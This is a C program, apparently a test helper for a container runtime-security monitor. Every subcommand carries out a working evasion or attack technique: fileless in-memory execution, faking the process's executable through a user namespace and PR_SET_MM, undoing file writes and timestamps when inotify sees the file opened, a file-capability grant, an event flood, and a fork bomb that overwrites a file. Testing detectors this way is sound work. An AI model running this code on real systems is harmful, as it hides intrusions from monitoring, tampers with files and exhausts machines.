/* What a process of a watched container can do and a shell cannot: for the pod step. Linked statically. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static void fail(const char *what) {
  perror(what);
  exit(1);
}

static int64_t now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (int64_t) t.tv_sec * 1000000000 + t.tv_nsec;
}

/* Writes one byte of FILE, and from then on the time to TIMES, over and over: TIMES holds, in nanoseconds, when it
   was written and when this process last ran. */
static void stamp(const char *file, const char *times) {
  int out = open(times, O_RDWR | O_CREAT | O_TRUNC, 0644);
  if (out < 0 || ftruncate(out, 16) < 0) fail(times);
  volatile int64_t *stamps = mmap(NULL, 16, PROT_READ | PROT_WRITE, MAP_SHARED, out, 0);
  if (stamps == MAP_FAILED) fail("mmap");
  int fd = open(file, O_WRONLY);
  if (fd < 0) fail(file);
  stamps[0] = now();
  if (write(fd, "X", 1) != 1) fail("write");
  for (;;) stamps[1] = now();
}

/* Makes a page of FILE dirty by a mapping, waits until GO is there, and writes another byte through it. */
static void map(const char *file, const char *go) {
  int fd = open(file, O_RDWR);
  if (fd < 0) fail(file);
  volatile char *page = mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (page == MAP_FAILED) fail("mmap");
  char was = page[0];
  page[0] = was;
  while (access(go, F_OK) != 0) usleep(10000);
  page[0] = was ^ 1;
  for (;;) pause();
}

/* A copy of PROGRAM in memory. */
static int in_memory(const char *program) {
  int in = open(program, O_RDONLY);
  int fd = memfd_create("x", MFD_CLOEXEC);
  char buffer[65536];
  ssize_t n;
  if (in < 0 || fd < 0) fail(program);
  while ((n = read(in, buffer, sizeof buffer)) > 0)
    if (write(fd, buffer, n) != n) fail("write");
  close(in);
  return fd;
}

/* Executes PROGRAM from memory. */
static int memory(const char *program) {
  char *args[] = {"sleep", "1000", NULL};
  fexecve(in_memory(program), args, environ);
  fail("fexecve");
  return 1;
}

/* Executes PROGRAM from memory, which ends soon and is started again, over and over: none is there for long. */
static void relay(const char *program) {
  for (;;) {
    pid_t child = fork();
    if (child < 0) fail("fork");
    if (child == 0) {
      char *args[] = {"sleep", "0.15", NULL};
      int fd = in_memory(program);
      fexecve(fd, args, environ);
      fail("fexecve");
    }
    waitpid(child, NULL, 0);
  }
}

static void *stay(void *unused) {
  pause();
  return unused;
}

/* Executes this program from memory, which then ends its first thread while another goes on. */
static int headless(const char *again) {
  pthread_t other;
  if (again == NULL) {
    char *args[] = {"attack", "headless", "again", NULL};
    pid_t child = fork(); /* that of nobody outside */
    if (child != 0) return child < 0;
    fexecve(in_memory("/proc/self/exe"), args, environ);
    fail("fexecve");
  }
  if (pthread_create(&other, NULL, stay, NULL) != 0) fail("pthread_create");
  syscall(SYS_exit, 0);
  return 1;
}

/* Puts memory of no file in the place of each mapping of the file that this program runs from. */
static void leave_file(void) {
  static char line[4096];
  FILE *maps = fopen("/proc/self/maps", "r");
  struct { unsigned long from, to; int rights; } found[32];
  int count = 0;
  while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
    char rights[5];
    if (strstr(line, "/memfd:") == NULL || count == 32) continue;
    if (sscanf(line, "%lx-%lx %4s", &found[count].from, &found[count].to, rights) != 3) fail("maps");
    found[count++].rights = (rights[0] == 'r' ? PROT_READ : 0) | (rights[1] == 'w' ? PROT_WRITE : 0)
      | (rights[2] == 'x' ? PROT_EXEC : 0);
  }
  fclose(maps);
  for (int i = 0; i < count; i++) {
    size_t size = found[i].to - found[i].from;
    void *copy = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (copy == MAP_FAILED) fail("mmap");
    memcpy(copy, (void *) found[i].from, size);
    if (mprotect(copy, size, found[i].rights) < 0
        || mremap(copy, size, size, MREMAP_MAYMOVE | MREMAP_FIXED, (void *) found[i].from) == MAP_FAILED)
      fail("mremap");
  }
}

/* Has the kernel say that this process runs PROGRAM: a right that everybody has in a user namespace of his own. */
static void say_that_it_runs(const char *program) {
  char text[4096], *field;
  unsigned long long fields[53] = {0};
  int fd = open("/proc/self/stat", O_RDONLY);
  ssize_t length = read(fd, text, sizeof text - 1);
  if (length < 0) fail("stat");
  close(fd);
  text[length] = 0;
  field = strtok(strrchr(text, ')') + 2, " ");
  for (int i = 3; field != NULL && i < 53; i++, field = strtok(NULL, " ")) fields[i] = strtoull(field, NULL, 10);
  struct prctl_mm_map map = {
    .start_code = fields[26], .end_code = fields[27], .start_stack = fields[28], .start_data = fields[45],
    .end_data = fields[46], .start_brk = fields[47], .brk = (uintptr_t) sbrk(0), .arg_start = fields[48],
    .arg_end = fields[49], .env_start = fields[50], .env_end = fields[51], .auxv = NULL, .auxv_size = 0,
    .exe_fd = open(program, O_RDONLY)};
  if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) < 0) fail("PR_SET_MM_MAP");
}

/* Executes this program from memory, which then has the kernel say that it runs PROGRAM. */
static int hide(const char *program, const char *again) {
  if (again == NULL) {
    char *args[] = {"attack", "hide", (char *) program, "again", NULL};
    pid_t child = fork(); /* that of nobody outside */
    if (child != 0) return child < 0;
    fexecve(in_memory("/proc/self/exe"), args, environ);
    fail("fexecve");
  }
  if (unshare(CLONE_NEWUSER) < 0) fail("unshare");
  leave_file();
  say_that_it_runs(program);
  for (;;) pause();
}

/* Forbids others of its user to look at this process. */
static void keep_to_itself(void) {
  if (prctl(PR_SET_DUMPABLE, 0) < 0) fail("PR_SET_DUMPABLE");
  for (;;) pause();
}

/* Writes to FILE, and puts it right, its time too, as soon as somebody opens it; a hundred times. */
static int put_back(const char *file) {
  char was[4096], event[4096];
  struct stat before;
  int fd = open(file, O_RDWR), watch = inotify_init();
  ssize_t length = read(fd, was, sizeof was);
  if (fd < 0 || length < 1 || fstat(fd, &before) < 0 || inotify_add_watch(watch, file, IN_OPEN) < 0) fail(file);
  for (int i = 0; i < 100; i++) {
    struct timespec times[2] = {before.st_atim, before.st_mtim};
    if (pwrite(fd, "X", 1, 0) != 1) fail("write");
    if (read(watch, event, sizeof event) < 0) fail("read");
    if (pwrite(fd, was, 1, 0) != 1 || futimens(fd, times) < 0) fail("write");
    usleep(100000);
  }
  return 0;
}

/* Gives FILE the capability cap_net_raw, permitted. */
static int capability(const char *file) {
  uint32_t value[5] = {0x02000001, 1 << 13, 0, 0, 0};
  if (setxattr(file, "security.capability", value, sizeof value, 0) < 0) fail(file);
  return 0;
}

/* Sets the modes of two files to what they are, over and over: events, and no change. */
static int flood(const char *one, const char *other, int times) {
  struct stat a, b;
  if (stat(one, &a) < 0 || stat(other, &b) < 0) fail("stat");
  for (int i = 0; i < times; i++)
    if (chmod(one, a.st_mode) < 0 || chmod(other, b.st_mode) < 0) fail("chmod");
  return 0;
}

/* Takes every process that there is, writes into FILE, and takes each that becomes free. */
static void exhaust(const char *file) {
  pid_t child;
  while ((child = fork()) > 0) {}
  if (child == 0) {
    for (;;) pause();
  }
  int fd = open(file, O_WRONLY | O_TRUNC);
  if (fd < 0 || write(fd, "hacked\n", 7) != 7) fail(file);
  for (;;) {
    if (fork() == 0) {
      for (;;) pause();
    }
    usleep(100);
  }
}

int main(int argc, char **argv) {
  if (argc == 3 && strcmp(argv[1], "exhaust") == 0) exhaust(argv[2]);
  if (argc == 4 && strcmp(argv[1], "stamp") == 0) stamp(argv[2], argv[3]);
  if (argc == 4 && strcmp(argv[1], "map") == 0) map(argv[2], argv[3]);
  if (argc == 3 && strcmp(argv[1], "memory") == 0) return memory(argv[2]);
  if (argc == 3 && strcmp(argv[1], "relay") == 0) relay(argv[2]);
  if (argc >= 2 && strcmp(argv[1], "headless") == 0) return headless(argv[2]);
  if (argc >= 3 && strcmp(argv[1], "hide") == 0) return hide(argv[2], argv[3]);
  if (argc == 2 && strcmp(argv[1], "keep-to-itself") == 0) keep_to_itself();
  if (argc == 3 && strcmp(argv[1], "put-back") == 0) return put_back(argv[2]);
  if (argc == 3 && strcmp(argv[1], "capability") == 0) return capability(argv[2]);
  if (argc == 5 && strcmp(argv[1], "flood") == 0) return flood(argv[2], argv[3], atoi(argv[4]));
  fprintf(stderr, "not a known attack\n");
  return 2;
}
